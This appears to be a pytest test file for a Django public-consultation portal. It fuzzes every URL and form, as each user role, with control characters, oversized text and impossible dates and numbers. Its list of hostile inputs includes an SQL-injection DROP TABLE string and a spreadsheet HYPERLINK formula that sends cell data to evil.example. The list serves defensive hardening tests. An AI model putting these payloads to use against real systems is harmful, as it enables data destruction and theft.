"""No input takes a request down or is stored wrong: NUL and control characters, huge text, impossible dates and
numbers, on every URL and form of the project, as each role."""

import datetime as dt
import unicodedata

import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from consultations import services as cs
from consultations.models import OrganizationSummary
from consultations.selectors import postings_of
from portal.documents.models import Document, Section
from portal.documents.services import document_create_from_spec
from portal.forms import HardenedFormMixin
from tests.consultations.factories import orgs as consultation_orgs
from tests.consultations.views.test_public import _open_now
from tests.documents.factories import minimal_spec

pytestmark = pytest.mark.django_db

HOSTILE = [
    "Tiêu đề\x00 có NUL\x01\x02\x1b[31m và mã thoát",
    "x" * 25_000,  # over every limit of a single field (20,000), ~2 MB posted with every field
    "\u202eRTL override\u202c, \u200bzero-width, 😀👍🏽 emoji 🇻🇳 và ' OR 1=1; DROP TABLE consultations_comment; --",
    "99999999999999999999",
    "-1",
    "31/12/9999",
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
]


def _patterns(resolver=None, prefix=""):
    resolver = resolver or get_resolver()
    for p in resolver.url_patterns:
        if isinstance(p, URLResolver):
            ns = f"{p.namespace}:" if p.namespace else ""
            if p.app_name == "admin":
                continue
            yield from _patterns(p, prefix + ns)
        elif isinstance(p, URLPattern) and p.name:
            yield prefix + p.name, list(p.pattern.converters)


@pytest.fixture
def world(commune, village, staff, leader, mttq, village_head, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    consultation_orgs(commune)
    c = _open_now(commune, staff)
    comment = cs.comment_submit(consultation=c, text="Một ý kiến", form_token="t" * 32, village=village)
    posting = postings_of(c).filter(village=village).first()

    batch = cs.import_batch_create(
        consultation=c, by=staff, upload=SimpleUploadedFile("y.xlsx", b"PK\x03\x04x")
    )
    doc = document_create_from_spec(spec=minimal_spec(), issuer=_ubnd(commune), by=staff, commune=commune)
    section = Section.objects.filter(document=doc).first()
    task = doc.tasks.first()
    return {
        "consultation": c,
        "comment": comment,
        "posting": posting,
        "batch": batch,
        "document": doc,
        "section": section,
        "task": task,
    }


def _ubnd(commune):
    from portal.models import Organization

    return Organization.objects.filter(unit=commune, kind=Organization.Kind.PEOPLES_COMMITTEE).first()


def _kwargs(name, converters, w):
    doc_app = name.startswith("documents:")
    values = {
        "pk": w["document"].pk if doc_app else w["consultation"].pk,
        "number": 1,
        "posting_pk": w["posting"].pk if w["posting"] else 1,
        "comment_pk": w["comment"].pk,
        "batch_pk": w["batch"].pk,
        "code": w["comment"].tracking_code,
        "fmt": "csv",
        "action": "an",
        "sid": w["section"].pk if w["section"] else 1,
        "tid": w["task"].pk if w["task"] else 1,
        "rid": 1,
        "token": "x",
        "code_commune": "x",
    }
    return {c: values.get(c, "1") for c in converters}


def _field_names():
    """Every field name of every form of the project, plus the query parameters the lists read."""
    names = {"q", "xa", "page", "status", "loai", "mau", "thon", "kenh", "ma", "next", "submit", "direction"}
    for form_class in _form_classes():
        names |= set(getattr(form_class, "base_fields", {}))
    return sorted(names)


def _form_classes():
    """Every form class defined in a module of the project's apps (forms.py or any module that defines one)."""
    import importlib
    import inspect
    import pkgutil

    from django import forms

    found = set()
    for package_name in ("portal", "consultations", "dialogues", "campaigns"):
        package = importlib.import_module(package_name)
        for info in pkgutil.walk_packages(package.__path__, package_name + "."):
            if ".migrations" in info.name or ".management" in info.name:
                continue
            module = importlib.import_module(info.name)
            for _, obj in inspect.getmembers(module, inspect.isclass):
                if issubclass(obj, forms.BaseForm) and obj.__module__ == info.name:
                    found.add(obj)
    return sorted(found, key=lambda c: (c.__module__, c.__name__))


def test_every_form_of_the_project_is_hardened():
    classes = [c for c in _form_classes() if c.__module__ != "portal.forms"]
    assert len(classes) >= 20
    assert [c.__name__ for c in classes if not issubclass(c, HardenedFormMixin)] == []


def _controls_stored() -> list[str]:
    bad = []
    for model in apps.get_models():
        if model._meta.app_label not in ("portal", "documents", "consultations", "dialogues", "campaigns"):
            continue
        text_fields = [
            f.name for f in model._meta.get_fields() if isinstance(f, models.CharField | models.TextField)
        ]
        for row in model.objects.values_list("pk", *text_fields):
            for value in row[1:]:
                if isinstance(value, str) and any(
                    unicodedata.category(ch) in ("Cc", "Cf") and ch not in "\n\t" for ch in value
                ):
                    bad.append(f"{model.__name__}#{row[0]}: {value[:40]!r}")  # noqa: PERF401
    return bad


@pytest.mark.timeout(900)
def test_fuzz_every_url_and_form_as_each_role(world, staff, leader, mttq, village_head):
    urls = []
    for name, converters in _patterns():
        try:
            urls.append((name, reverse(name, kwargs=_kwargs(name, converters, world))))
        except Exception:  # noqa: BLE001, S112 - a pattern whose kwargs we cannot guess is skipped
            continue
    assert len(urls) >= 50
    fields = _field_names()
    failures = []
    # staff reach the most forms: every payload; the other roles the control characters (what broke PostgreSQL)
    roles = [(staff, HOSTILE, HOSTILE[:1])] + [(u, HOSTILE[:1], []) for u in (None, village_head, mttq)]
    for user, post_payloads, get_payloads in roles:
        client = Client(raise_request_exception=False)
        if user is not None:
            client.force_login(user)
        for name, url in urls:
            if name in ("logout", "healthz") or name.endswith((":pdf", ":docx", "bundle_request")):
                continue
            requests = [("post", v, dict.fromkeys(fields, v)) for v in post_payloads]
            requests += [("get", v, {"q": v, "xa": v, "page": v, "status": v}) for v in get_payloads]
            for method, value, data in requests:
                r = getattr(client, method)(url, data)
                if r.status_code >= 500:
                    failures.append(f"{method.upper()} {url} as {user} with {value[:20]!r}: {r.status_code}")
    assert failures == [], "\n".join(failures)
    assert _controls_stored() == []


@pytest.mark.parametrize(
    ("url", "expected"),
    [("/xa/%00/", 400), ("/lay-y-kien/?xa=%00", 200), ("/tra-cuu/?ma=%00", 200)],
)
def test_nul_in_urls_is_never_a_500(client, commune, url, expected):
    r = client.get(url)
    assert r.status_code == expected
    if expected == 400:
        assert "không hợp lệ" in r.content.decode()


def test_section_with_control_characters_is_cleaned_and_the_docx_still_opens(client, world, staff):
    client.force_login(staff)
    section = world["section"]
    r = client.post(
        reverse("documents:section_edit", args=[section.pk]),
        {"heading": "Mục\x00 một\x1b", "text": "Nội dung\x01\x02\x1b[0m có ký tự lạ\x00"},
    )
    assert r.status_code == 302
    section.refresh_from_db()
    assert section.heading == "Mục một" and section.text == "Nội dung[0m có ký tự lạ"
    r = client.get(reverse("documents:docx", args=[world["document"].pk]))
    assert r.status_code == 200


def test_too_long_section_refused_with_its_limit_and_unchanged(client, world, staff):
    from django.contrib.messages import get_messages

    client.force_login(staff)
    section = world["section"]
    before = section.text
    r = client.post(
        reverse("documents:section_edit", args=[section.pk]), {"heading": "", "text": "a" * 25_000}
    )
    section.refresh_from_db()
    assert section.text == before
    assert any("tối đa 20.000 ký tự" in str(m) for m in get_messages(r.wsgi_request))


def test_empty_title_on_document_create_is_a_form_error(client, world, staff):
    client.force_login(staff)
    count = Document.objects.count()
    r = client.post(
        reverse("documents:create"),
        {
            "doc_type": "KH",
            "title": "",
            "place": "Tân Trung",
            "draft_date": "15/03/2026",
            "numbering": "roman",
        },
    )
    assert r.status_code == 200 and Document.objects.count() == count


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31", "31/12/9999"])
def test_dates_out_of_range_refused(client, commune, staff, day):
    from consultations.models import Consultation

    client.force_login(staff)
    consultation_orgs(commune)
    r = client.post(
        reverse("consultations:create"),
        {
            "title": "Dự thảo",
            "audience": "people",
            "category": "p7",
            "opens_on": day,
            "closes_on": day,
            "draft_text": "Điều 1. A\nB",
        },
    )
    assert r.status_code == 200 and not Consultation.objects.exists()
    assert "Ngày phải" in r.content.decode()


def test_vietnamese_date_form_accepted(client, commune, staff):
    from consultations.forms import PublishForm

    form = PublishForm({"publicized_on": "05/03/2026"})
    assert form.is_valid() and form.cleaned_data["publicized_on"] == dt.date(2026, 3, 5)


def test_huge_meeting_count_is_a_clear_error_not_a_500(client, world, mttq):
    c = world["consultation"]
    client.force_login(mttq)
    r = client.post(
        reverse("consultations:summary", args=[c.pk]),
        {"text": "Tổng hợp", "meetings_held": "99999999999999999999", "participants": "-5"},
        follow=True,
    )
    assert r.status_code == 200
    html = r.content.decode()
    assert "Số hội nghị đã tổ chức: Số lớn nhất được nhập là 1.000." in html
    assert "Số lượt người tham gia: Số nhỏ nhất được nhập là 0." in html
    assert not OrganizationSummary.objects.filter(consultation=c).exists()


def test_services_refuse_what_forms_refuse(world, mttq):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError, match="Số hội nghị"):
        cs.summary_save(consultation=world["consultation"], by=mttq, text="x", meetings_held=10**20)


def test_a_hidden_comment_shows_its_code_holder_only_that_it_was_hidden(client, world, staff):
    comment = cs.comment_hide(comment=world["comment"], by=staff, reason="Nêu tên, địa chỉ của người khác")
    r = client.get("/tra-cuu/", {"ma": comment.tracking_code})
    html = r.content.decode()
    assert r.status_code == 200 and "đã được ẩn" in html
    assert "Một ý kiến" not in html and "Nêu tên" not in html
